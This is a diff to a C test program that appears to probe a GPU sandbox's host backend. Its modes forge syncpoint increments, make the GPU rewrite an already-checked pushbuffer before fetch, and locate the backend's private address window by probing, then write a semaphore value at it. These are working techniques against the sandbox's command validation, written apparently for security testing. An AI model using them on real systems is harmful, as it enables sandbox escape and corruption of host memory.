@@ -13,15 +13,17 @@
  *                                    and a submission on the second channel (which pushes guest
  *                                    memory to a host backend) reaches the fence. With `forge`
  *                                    the guest first moves the held submission's own syncpoint to
- *                                    its fence with SYNCPT_INCR, as if the host had finished it
+ *                                    its fence with SYNCPT_INCR, as if the host had finished it,
+ *                                    and then waits for a later job of that channel instead
  *   cmdstream_guest gpu-rewrite ID   the GPU itself rewrites a checked pushbuffer before its fetch:
  *                                    a submission held behind a fence of a second channel
  *                                    releases semaphores over the words of the next submission
  *                                    (a semaphore release when checked), making them two
  *                                    SYNCPOINTB increments of ID; then the fence opens
- *   cmdstream_guest window-write     finds the host backend's private window by probing its
+ *   cmdstream_guest window-write     seeks the host backend's private window by probing its
  *                                    address space with fixed ALLOC_SPACEs, then releases a
- *                                    semaphore into it (probes, window_end: where it ends)
+ *                                    semaphore just past the space it sees (probes, refused,
+ *                                    window_end, zone_err, outside_err)
  *
  * Each waits for the submission's fence and prints what happened as key=value pairs:
  * alloc_obj_ctx (the NvError), copied (bytes that arrived), syncpoint (ID's value afterwards),
@@ -176,8 +178,9 @@ static int rewrite(uint32_t id, int forge) {
   uint32_t* push = pages(4096);
   uint32_t* other_push = pages(4096);
   uint32_t* sem = pages(4096);
+  uint32_t* idle_push = pages(4096);
   const uint64_t push_va = map(&g, push, 4096), other_va = map(&g, other_push, 4096);
-  const uint64_t sem_va = map(&g, sem, 4096);
+  const uint64_t sem_va = map(&g, sem, 4096), idle_va = map(&g, idle_push, 4096);
   /* The second channel's syncpoint, from its first fence. */
   struct nvgpu_fence gate = nop(other, other_push, other_va);
   wait_fence(&g, gate);
@@ -208,8 +211,15 @@ static int rewrite(uint32_t id, int forge) {
     }
   }
   memcpy(push, evil.words, 24);
-  /* Guest memory moves to a host backend's host before this reaches it; its job opens the gate. */
+  /* Guest memory moves to a host backend's host before this reaches it; its job opens the gate.
+   * That the gate opened says nothing of the held job itself: a GPU runs it after. */
   wait_fence(&g, nop(other, other_push, other_va));
+  if (forge) {
+    /* The guest reached f itself, so f says nothing of the held job either: it waits for idle as a
+     * client does, with a job after it on the same channel. Its fence is reached only by the held
+     * job's own increments or its own, both after the held job's work. */
+    f = nop(g.ch, idle_push, idle_va);
+  }
   wait_fence(&g, f);
   printf("semaphore=0x%X\n", sem[0]);
   struct nvhost_id_value v = {id, 0};
@@ -280,9 +290,11 @@ static int gpu_rewrite(uint32_t id) {
 }
 
 /* The sentry's private window (where the host backend keeps its copies of checked pushbuffers)
- * found by probing: fixed ALLOC_SPACEs of [x, end of the largest region) fail while they meet it,
- * so a binary search finds its end (nothing else lies at the top of a fresh space). Then a
- * semaphore release into it, whose address is in the stream. */
+ * sought by probing: a binary search with fixed ALLOC_SPACEs of [x, end of the largest region it
+ * sees), which once failed while they met the window and so found its end in about 20 probes
+ * (refused: how many failed). Then fixed ALLOC_SPACEs of 128 MiB just past that end (zone_err) and
+ * far beyond any region (outside_err), and a semaphore release just past the end, whose address is
+ * in the stream. */
 static int window_write(void) {
   struct gpu g;
   open_gpu(&g);
@@ -301,7 +313,7 @@ static int window_write(void) {
   int big = v.r[1].pages * v.r[1].page_size > v.r[0].pages * v.r[0].page_size;
   const uint64_t page = v.r[big].page_size, top = v.r[big].offset + v.r[big].pages * page;
   uint64_t lo = v.r[big].offset, hi = top; /* [hi, top) reservable; [lo, top) not */
-  int probes = 0;
+  int probes = 0, refused = 0;
   while (hi - lo > page) {
     const uint64_t mid = lo + (hi - lo) / page / 2 * page;
     struct nvgpu_as_alloc_space a = {(uint32_t)((top - mid) / page), (uint32_t)page, 1, 0, mid};
@@ -311,15 +323,20 @@ static int window_write(void) {
       must("FREE_SPACE", nvc_ioctl(&nv, g.as, NVGPU_AS_FREE_SPACE, &f));
       hi = mid;
     } else {
+      refused++;
       lo = mid;
     }
   }
-  printf("probes=%d\nwindow_end=0x%llX\n", probes, (unsigned long long)hi);
+  printf("probes=%d\nrefused=%d\nwindow_end=0x%llX\n", probes, refused, (unsigned long long)hi);
+  const uint32_t window_pages = (uint32_t)((128u << 20) / page);
+  struct nvgpu_as_alloc_space past = {window_pages, (uint32_t)page, 1, 0, top};
+  struct nvgpu_as_alloc_space far = {window_pages, (uint32_t)page, 1, 0, top << 4};
+  printf("zone_err=%d\n", nvc_ioctl(&nv, g.as, NVGPU_AS_ALLOC_SPACE, &past));
+  printf("outside_err=%d\n", nvc_ioctl(&nv, g.as, NVGPU_AS_ALLOC_SPACE, &far));
   void* push = pages(4096);
   const uint64_t push_va = map(&g, push, 4096);
-  const uint64_t at = hi - 16; /* the window's last 16 bytes */
   struct nvc_push pb = {0};
-  nvc_push_incr(&pb, 0, 0x10, 4, (uint32_t)(at >> 32), (uint32_t)at, 0xBADu, 2u | (1u << 24));
+  nvc_push_incr(&pb, 0, 0x10, 4, (uint32_t)(top >> 32), (uint32_t)top, 0xBADu, 2u | (1u << 24));
   run(&g, &pb, push, push_va);
   free(pb.words);
   return 0;
